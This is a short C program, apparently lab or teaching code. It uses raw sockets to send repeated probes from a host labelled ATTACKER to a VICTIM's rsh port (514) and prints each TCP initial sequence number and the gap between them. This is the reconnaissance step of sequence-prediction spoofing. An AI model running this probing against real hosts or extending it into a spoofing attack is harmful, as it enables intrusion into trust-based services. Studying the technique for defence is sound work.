/* Asks a server for its initial sequence numbers, and says what one would have to know to foresee the next. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "segment.h"

#define ATTACKER "10.0.0.66"
#define VICTIM "10.0.0.2"
#define PORT 514

int main(void) {
  int out = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), in = socket(AF_INET, SOCK_RAW, IPPROTO_TCP), i;
  unsigned int last = 0, seq;

  for (i = 0; i < 6; i++) {
    seq = probe(out, in, ATTACKER, 2000 + i, VICTIM, PORT);
    if (i > 0)
      printf("%u, %u on\n", seq, seq - last);
    else
      printf("%u\n", seq);
    last = seq;
    usleep(250000);
  }
  return 0;
}
